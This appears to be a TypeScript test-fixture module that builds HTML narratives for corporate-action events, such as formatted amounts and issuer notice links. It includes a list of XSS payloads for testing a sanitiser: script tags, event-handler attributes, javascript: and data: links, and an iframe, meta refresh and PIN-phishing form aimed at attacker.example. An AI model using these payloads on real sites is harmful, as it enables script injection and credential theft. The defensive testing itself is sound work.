/**
 * Building blocks for the HTML narratives of events and options. Narratives
 * are HTML fragments (paragraphs, lists, bold text, links), as the real
 * service sends them. A few are deliberately hostile (script tags, event
 * handler attributes, javascript: links, ...) so the UI's sanitiser has
 * something to prove itself on; those are marked with the text `refex-xss`.
 */

export function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** A paragraph; the content is trusted markup (escape interpolated values with `t`). */
export const p = (html: string): string => `<p>${html}</p>`;
export const b = (html: string): string => `<b>${html}</b>`;
export const strong = (html: string): string => `<strong>${html}</strong>`;
export const em = (html: string): string => `<em>${html}</em>`;
export const ul = (items: readonly string[]): string => `<ul>${items.map((item) => `<li>${item}</li>`).join('')}</ul>`;
export const ol = (items: readonly string[]): string => `<ol>${items.map((item) => `<li>${item}</li>`).join('')}</ol>`;
export const link = (href: string, text: string): string => `<a href="${escapeHtml(href)}" target="_blank" rel="noopener">${escapeHtml(text)}</a>`;
/** Escaped plain text. */
export const t = escapeHtml;

/** Formats an amount with up to `decimals` decimals, trailing zeros trimmed (at least two decimals). */
export function amountText(value: number, decimals = 4): string {
  const fixed = value.toFixed(decimals);
  const [whole, fraction = ''] = fixed.split('.');
  let trimmed = fraction.replace(/0+$/, '');
  if (trimmed.length < 2) trimmed = trimmed.padEnd(2, '0');
  const grouped = (whole ?? '0').replace(/\B(?=(\d{3})+(?!\d))/g, ',');
  return `${grouped}.${trimmed}`;
}

/** Whole number with thousands separators. */
export function intText(value: number): string {
  return String(Math.round(value)).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
}

export function money(currency: string, value: number, decimals = 4): string {
  return `${currency} ${amountText(value, decimals)}`;
}

/** Slug for example links, e.g. `NOVO_B:xcse` → `novo-b`. */
export function slug(symbol: string): string {
  return (symbol.split(':')[0] ?? symbol)
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '');
}

/** Link to a (fictitious) issuer notice on a reserved example domain. */
export function noticeLink(symbol: string, what: string, text: string): string {
  return link(`https://ir.example.com/${slug(symbol)}/${what}`, text);
}

/** Hostile fragments; each one must be neutralised by the UI's sanitiser. */
export const HOSTILE_FRAGMENTS: readonly string[] = [
  `<p>Read the agent’s notice before instructing.<script>alert('refex-xss-script')</script></p>`,
  `<p><img src="x" onerror="alert('refex-xss-onerror')" alt="scanned notice">The scanned notice is attached above.</p>`,
  `<p>Full terms are in the <a href="javascript:alert('refex-xss-javascript-link')">offer memorandum</a>.</p>`,
  `<p onmouseover="alert('refex-xss-onmouseover')">Move the pointer here for the timetable.</p><iframe src="https://attacker.example/refex-xss-frame"></iframe>`,
  `<svg onload="alert('refex-xss-svg')"><circle r="4"></circle></svg><p>Download the <a href=" JaVaScRiPt:alert('refex-xss-mixed-case')">tax form</a>.</p>`,
  `<style>body{display:none}</style><form action="https://attacker.example/refex-xss-form"><input name="pin" placeholder="Confirm your PIN"><button>Confirm</button></form>`,
  `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgncmVmZXgteHNzLWRhdGEnKTwvc2NyaXB0Pg==">Election form (HTML)</a></p>`,
  `<object data="javascript:alert('refex-xss-object')"></object><meta http-equiv="refresh" content="0;url=https://attacker.example/refex-xss-meta">`,
];

/** The hostile fragment for a seed (any integer). */
export function hostileFragment(seed: number): string {
  return HOSTILE_FRAGMENTS[Math.abs(seed) % HOSTILE_FRAGMENTS.length] as string;
}

/** Standard closing paragraph with a link to the issuer's notice. */
export function closing(symbol: string, variant: number): string {
  switch (variant % 4) {
    case 0:
      return p(
        `The issuer’s announcement is available on its ${noticeLink(symbol, 'notice.pdf', 'investor relations site')}. In case of doubt, the issuer’s documents prevail over this summary.`,
      );
    case 1:
      return p(
        `This summary is based on information from the issuer and the custodian chain and may be updated. See ${noticeLink(symbol, 'corporate-actions', 'the full announcement')}.`,
      );
    case 2:
      return p(`${b('Please note:')} details can change until the event is confirmed. The ${noticeLink(symbol, 'announcement', 'official announcement')} is the binding source.`);
    default:
      return p(`More information: ${noticeLink(symbol, 'shareholders', 'shareholder information')}.`);
  }
}
